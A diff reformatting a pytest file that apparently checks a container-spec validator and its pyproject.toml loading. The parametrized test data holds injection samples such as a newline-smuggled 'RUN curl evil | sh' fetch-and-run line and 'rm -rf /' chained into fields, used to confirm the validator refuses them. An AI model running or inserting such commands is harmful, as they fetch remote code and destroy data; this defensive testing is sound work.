@@ -94,15 +94,18 @@ def test_missing_file_is_named(root):
     assert found == [f"requirements: 'nope.txt' does not exist in {root}"]
 
 
-@pytest.mark.parametrize("key,value", [
-    ("base", "python:3.11\nRUN curl evil | sh"),
-    ("base", "python 3.11"),
-    ("env", {"A": "x\nRUN rm -rf /"}),
-    ("env", {"BAD-NAME": "x"}),
-    ("system_packages", ["curl && rm -rf /"]),
-    ("train", {"command": ["python", "a\nRUN x"]}),
-    ("artifacts", "relative/path"),
-])
+@pytest.mark.parametrize(
+    "key,value",
+    [
+        ("base", "python:3.11\nRUN curl evil | sh"),
+        ("base", "python 3.11"),
+        ("env", {"A": "x\nRUN rm -rf /"}),
+        ("env", {"BAD-NAME": "x"}),
+        ("system_packages", ["curl && rm -rf /"]),
+        ("train", {"command": ["python", "a\nRUN x"]}),
+        ("artifacts", "relative/path"),
+    ],
+)
 def test_values_that_could_inject_instructions_are_refused(root, key, value):
     assert problems({**VALID, key: value}, root)
 
@@ -129,7 +132,8 @@ def test_pyproject_table(root):
     (root / "pyproject.toml").write_text(
         '[project]\nname = "demo"\nversion = "1"\n\n[tool.imagesmith]\nname = "demo"\npython = "3.11"\n'
         'base = "python:3.11-slim"\nrequirements = ["six"]\nsource = ["app.py"]\n'
-        '[tool.imagesmith.train]\ncommand = "python app.py"\n[tool.imagesmith.serve]\ncommand = "python app.py"\nport = 80\n')
+        '[tool.imagesmith.train]\ncommand = "python app.py"\n[tool.imagesmith.serve]\ncommand = "python app.py"\nport = 80\n'
+    )
     spec = load_spec(root)
     assert spec.origin == "pyproject.toml [tool.imagesmith]"
     assert spec.serve.port == 80
